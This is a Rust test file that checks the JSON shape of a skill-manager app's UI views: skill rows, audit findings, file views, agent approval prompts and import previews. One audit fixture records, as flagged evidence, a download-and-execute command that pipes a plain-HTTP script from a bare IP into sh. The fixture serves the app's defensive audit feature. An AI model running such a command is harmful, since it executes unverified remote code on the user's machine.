//! The IPC contract in one place: the JSON shape of every view the UI reads, as whole values.
//! A renamed field (`kind_name` where the UI reads `kindName`) fails here, not in a window.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use serde_json::{Value, json};
use skilldeck_agent::events::{ShellQuestion, WriteQuestion};
use skilldeck_app::agent::{PanelNotice, ProviderView};
use skilldeck_app::views::{
    AuditView, DiagView, FieldRow, FileRow, FileView, FindingView, GrantsRow, HistoryRow, ImportPreviewView,
    ImportedView, ListingView, ProfileView, SkillDetail, SkillRow,
};
use skilldeck_audit::{Finding, RiskLevel};
use skilldeck_skill::grants::RequestedTool;
use skilldeck_skill::{Scope, Severity};
use skilldeck_store::trust::GrantState;

fn check(value: impl serde::Serialize, expected: Value) {
    assert_eq!(serde_json::to_value(value).unwrap(), expected);
}

fn row() -> SkillRow {
    SkillRow {
        name: "pdf".into(),
        scope: Scope::User,
        version: Some("2".into()),
        revision: Some(2),
        valid: true,
        shadowed: false,
        enabled: true,
        errors: 0,
        warnings: 1,
        description: Some("Extract text".into()),
        description_zh: Some("提取文本".into()),
        tools_unapproved: true,
        pinned: true,
        held: true,
        risk: Some(RiskLevel::Critical),
        user_invoked_only: false,
        risk_approved: false,
    }
}

/// A held skill's audit: one critical finding, unapproved, with hidden text.
fn audit() -> AuditView {
    let finding = Finding {
        rule: "exec.download-pipe-insecure",
        severity: RiskLevel::Critical,
        title: "Runs code downloaded from a bare IP address or over plain HTTP",
        file: "scripts/setup.sh".into(),
        line: Some(2),
        evidence: "curl -s http://203.0.113.7/x.sh | sh".into(),
        hidden: Some("run me".into()),
        why: "why",
        fingerprint: "0123456789abcdef".into(),
    };
    AuditView {
        findings: vec![FindingView { finding, approved: false, holds: true }],
        held: true,
        hold: Some(RiskLevel::High),
        changed_since: None,
    }
}

fn audit_json() -> Value {
    json!({"findings": [{"rule": "exec.download-pipe-insecure", "severity": "critical",
                         "title": "Runs code downloaded from a bare IP address or over plain HTTP",
                         "file": "scripts/setup.sh", "line": 2, "evidence": "curl -s http://203.0.113.7/x.sh | sh",
                         "hidden": "run me", "why": "why", "fingerprint": "0123456789abcdef",
                         "approved": false, "holds": true}],
           "held": true, "hold": "high"})
}

fn no_findings() -> AuditView {
    AuditView { findings: vec![], held: false, hold: Some(RiskLevel::High), changed_since: None }
}

fn grants() -> GrantsRow {
    GrantsRow {
        requested: vec![RequestedTool { pattern: "Bash".into(), plain: "run any shell command".into(), broad: true }],
        broad: true,
        state: GrantState::Untrusted,
        in_force: false,
    }
}

fn row_json() -> Value {
    json!({"name": "pdf", "scope": "user", "version": "2", "revision": 2, "valid": true, "shadowed": false,
           "enabled": true, "errors": 0, "warnings": 1, "description": "Extract text",
           "descriptionZh": "提取文本", "toolsUnapproved": true, "pinned": true, "held": true, "risk": "critical"})
}

fn grants_json() -> Value {
    json!({"requested": [{"pattern": "Bash", "plain": "run any shell command", "broad": true}], "broad": true,
           "state": "untrusted", "inForce": false})
}

#[test]
fn the_sidebar_and_the_skill_view() {
    check(row(), row_json());
    // A skill its author keeps from models carries the mark the sidebar shows.
    let mut user_only = row_json();
    user_only["userInvokedOnly"] = json!(true);
    check(SkillRow { user_invoked_only: true, ..row() }, user_only);
    let args = [("field", "name"), ("line", "2")].map(|(k, v)| (k.to_owned(), v.to_owned())).into();
    let diag = DiagView {
        code: "name_missing",
        severity: Severity::Error,
        message: "m".into(),
        line: Some(2),
        fix: "f",
        args,
    };
    let diag_json = json!({"code": "name_missing", "severity": "error", "message": "m", "line": 2, "fix": "f", "args": {"field": "name", "line": "2"}});
    check(&diag, diag_json.clone());
    let no_args = DiagView { args: Default::default(), line: None, ..diag.clone() };
    check(&no_args, json!({"code": "name_missing", "severity": "error", "message": "m", "line": null, "fix": "f"}));
    let detail = SkillDetail {
        row: row(),
        diagnostics: vec![diag],
        files: vec![FileRow { path: "SKILL.md".into(), size: 10 }],
        digest: "sha256:0123456789ab".into(),
        grants: grants(),
        audit: audit(),
        origin: Some(origin()),
    };
    let mut expected = row_json();
    let extra = json!({
        "diagnostics": [diag_json],
        "files": [{"path": "SKILL.md", "size": 10}],
        "digest": "sha256:0123456789ab",
        "grants": grants_json(),
        "audit": audit_json(),
        "origin": origin_json(),
    });
    expected.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
    check(detail, expected);
}

#[test]
fn every_kind_of_file_view() {
    let md = FileView::Markdown {
        html: "<p>x</p>".into(),
        frontmatter: vec![FieldRow { key: "name".into(), value: "pdf".into(), depth: 0 }],
        size: 3,
    };
    check(
        md,
        json!({"kind": "markdown", "html": "<p>x</p>", "frontmatter": [{"key": "name", "value": "pdf", "depth": 0}], "size": 3}),
    );
    check(FileView::Text { text: "t".into(), size: 1 }, json!({"kind": "text", "text": "t", "size": 1}));
    check(
        FileView::Image { mime: "image/png".into(), data_url: "data:image/png;base64,AA==".into(), size: 1 },
        json!({"kind": "image", "mime": "image/png", "dataUrl": "data:image/png;base64,AA==", "size": 1}),
    );
    check(
        FileView::Binary { kind_name: "PNG image".into(), size: 304 },
        json!({"kind": "binary", "kindName": "PNG image", "size": 304}),
    );
}

#[test]
fn listing_import_and_history() {
    let listing = ListingView {
        text: "### Skills".into(),
        estimated_tokens: 10,
        budget_tokens: 1500,
        shortened: vec!["pdf".into()],
        listed: 1,
        skills: vec![skilldeck_select::listing::ListedSkill {
            name: "pdf".into(),
            scope: Scope::User,
            version: Some("2".into()),
            revision: Some(skilldeck_skill::Revision(2)),
            description: String::new(),
            shortened: true,
            shown: skilldeck_select::listing::Shown::NameOnly,
            rank: Some(1),
        }],
        ranked: true,
        more: 40,
        profile: Some(ProfileView { path: "/w/.skilldeck.toml".into(), skills: vec!["pdf".into()], tags: vec![] }),
        meaning: Some(skilldeck_app::meaning::MeaningView {
            state: "indexing",
            model: Some("multilingual-e5-small-q4".into()),
            done: 40,
            total: 120,
            reason: None,
        }),
    };
    check(
        listing,
        json!({"text": "### Skills", "estimatedTokens": 10, "budgetTokens": 1500, "shortened": ["pdf"], "listed": 1,
               "skills": [{"name": "pdf", "scope": "user", "version": "2", "revision": 2, "description": "",
                           "shortened": true, "shown": "name_only", "rank": 1}],
               "ranked": true, "more": 40,
               "profile": {"path": "/w/.skilldeck.toml", "skills": ["pdf"], "tags": []},
               "meaning": {"state": "indexing", "model": "multilingual-e5-small-q4", "done": 40, "total": 120, "reason": null}}),
    );
    let preview = ImportPreviewView {
        name: "pdf".into(),
        scope: Scope::User,
        file_count: 2,
        total_bytes: 20,
        valid: true,
        diagnostics: vec![],
        next_revision: 3,
        is_new: false,
        identical: false,
        current_revision: Some(2),
        skipped: vec![".git".into()],
        grants: grants(),
        audit: audit(),
    };
    check(
        preview,
        json!({"name": "pdf", "scope": "user", "fileCount": 2, "totalBytes": 20, "valid": true, "diagnostics": [],
               "nextRevision": 3, "isNew": false, "identical": false, "currentRevision": 2, "skipped": [".git"], "grants": grants_json(),
               "audit": audit_json()}),
    );
    let imported = ImportedView {
        name: "pdf".into(),
        scope: Scope::User,
        revision: 3,
        digest: "sha256:x".into(),
        unchanged: false,
        grants: grants(),
    };
    check(
        imported,
        json!({"name": "pdf", "scope": "user", "revision": 3, "digest": "sha256:x", "unchanged": false, "grants": grants_json()}),
    );
    let history = HistoryRow {
        revision: 2,
        digest: Some("sha256:x".into()),
        at: "2026-12-01T00:00:00Z".into(),
        event: "upload".into(),
        current: true,
        restorable: false,
    };
    check(
        history,
        json!({"revision": 2, "digest": "sha256:x", "at": "2026-12-01T00:00:00Z", "event": "upload", "current": true,
               "restorable": false}),
    );
}

#[test]
fn the_agent_panel() {
    let question = ShellQuestion {
        command: "ls".into(),
        sandboxed: true,
        sandbox: "sandboxed (bubblewrap): …".into(),
        grant: None,
        not_covered: Some("no approved grant allows `ls`".into()),
    };
    let notice = PanelNotice::Approval { id: 7, question, workspace: "/w".into() };
    check(
        notice,
        json!({"type": "approval", "id": 7, "command": "ls", "sandboxed": true, "sandbox": "sandboxed (bubblewrap): …",
               "grant": null, "notCovered": "no approved grant allows `ls`", "workspace": "/w"}),
    );
    let question = WriteQuestion { path: ".git/hooks/pre-commit".into(), reason: "git runs hooks".into(), bytes: 12 };
    let notice = PanelNotice::WriteApproval { id: 8, question, workspace: "/w".into() };
    check(
        notice,
        json!({"type": "write_approval", "id": 8, "path": ".git/hooks/pre-commit", "reason": "git runs hooks",
               "bytes": 12, "workspace": "/w"}),
    );
    let provider =
        ProviderView { name: "offline".into(), label: "offline".into(), kind: "offline".into(), problem: None };
    check(provider, json!({"name": "offline", "label": "offline", "kind": "offline", "problem": null}));
}

fn origin() -> skilldeck_app::sources::OriginView {
    skilldeck_app::sources::OriginView {
        short: "github.com/o/r@9d2f1ae, skills/pdf".into(),
        given: "o/r".into(),
        kind: skilldeck_skill::provenance::SourceKind::Git,
        reference: None,
        resolved: "9d2f1ae".into(),
        path: "skills/pdf".into(),
        link: Some("https://github.com/o/r".into()),
    }
}

fn origin_json() -> Value {
    json!({"short": "github.com/o/r@9d2f1ae, skills/pdf", "given": "o/r", "kind": "git", "reference": null,
           "resolved": "9d2f1ae", "path": "skills/pdf", "link": "https://github.com/o/r"})
}

#[test]
fn a_source_look() {
    use skilldeck_app::commands::add_source::{ElsewhereView, NoteView, PluginView, RefusedView, SourceLook};
    use skilldeck_app::commands::collection::CollectionView;
    let look = SourceLook {
        token: "source-1".into(),
        origin: origin(),
        plugins: vec![PluginView { name: "docs".into(), description: None, skills: vec!["skills/pdf".into()] }],
        elsewhere: vec![ElsewhereView {
            name: "sheets".into(),
            description: Some("spreadsheets".into()),
            source: "o/sheets".into(),
            reference: Some("v2".into()),
        }],
        refused: vec![RefusedView {
            name: "big".into(),
            path: "skills/big".into(),
            reason_code: "skill_too_big".into(),
            reason: "r".into(),
            fix: "f".into(),
        }],
        notes: vec![NoteView { path: "skills/x".into(), what: "w".into() }],
        preview: CollectionView { items: vec![], imported: 0, unchanged: 0, refused: 0 },
    };
    check(
        look,
        json!({"token": "source-1", "origin": origin_json(),
               "plugins": [{"name": "docs", "description": null, "skills": ["skills/pdf"]}],
               "elsewhere": [{"name": "sheets", "description": "spreadsheets", "source": "o/sheets", "reference": "v2"}],
               "refused": [{"name": "big", "path": "skills/big", "reasonCode": "skill_too_big", "reason": "r", "fix": "f"}],
               "notes": [{"path": "skills/x", "what": "w"}],
               "preview": {"items": [], "imported": 0, "unchanged": 0, "refused": 0}}),
    );
}

#[test]
fn a_collection_preview() {
    use skilldeck_app::commands::collection::{CollectionItemView, CollectionView};
    use skilldeck_store::import::ErrorInfo;
    let item = CollectionItemView {
        location: "skills/pdf".into(),
        name: Some("pdf".into()),
        state: "update",
        revision: Some(3),
        current: Some(2),
        valid: true,
        diagnostics: vec![],
        file_count: 2,
        total_bytes: 20,
        asks_for_tools: false,
        audit: no_findings(),
        error: Some(ErrorInfo { code: "source_hostile".into(), message: "m".into() }),
    };
    check(
        CollectionView { items: vec![item], imported: 1, unchanged: 2, refused: 3 },
        json!({"items": [{"location": "skills/pdf", "name": "pdf", "state": "update", "revision": 3, "current": 2,
                          "valid": true, "diagnostics": [], "fileCount": 2, "totalBytes": 20, "asksForTools": false,
                          "audit": {"findings": [], "held": false, "hold": "high"},
                          "error": {"code": "source_hostile", "message": "m"}}],
               "imported": 1, "unchanged": 2, "refused": 3}),
    );
}

/// Every code Settings has a Chinese sentence for is one the backend sends (a renamed code
/// would leave its sentence unused and the English alone on screen).
#[test]
fn settings_chinese_errors_are_keyed_by_codes_the_backend_sends() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let text = std::fs::read_to_string(root.join("../ui/i18n/settings_errors.zh.json")).unwrap();
    let table: std::collections::BTreeMap<String, String> = serde_json::from_str(&text).unwrap();
    let codes: Vec<&str> = table.keys().map(String::as_str).collect();
    assert!(codes.len() >= 10, "{codes:?}");
    let mut backend = String::new();
    let mut dirs = vec![root.join("src"), root.join("../crates/skilldeck-remote/src")];
    while let Some(d) = dirs.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            if e.path().is_dir() {
                dirs.push(e.path());
            } else if e.path().extension().is_some_and(|x| x == "rs") {
                backend.push_str(&std::fs::read_to_string(e.path()).unwrap());
            }
        }
    }
    for code in codes {
        assert!(backend.contains(&format!("\"{code}\"")), "{code} is sent by no command");
    }
}
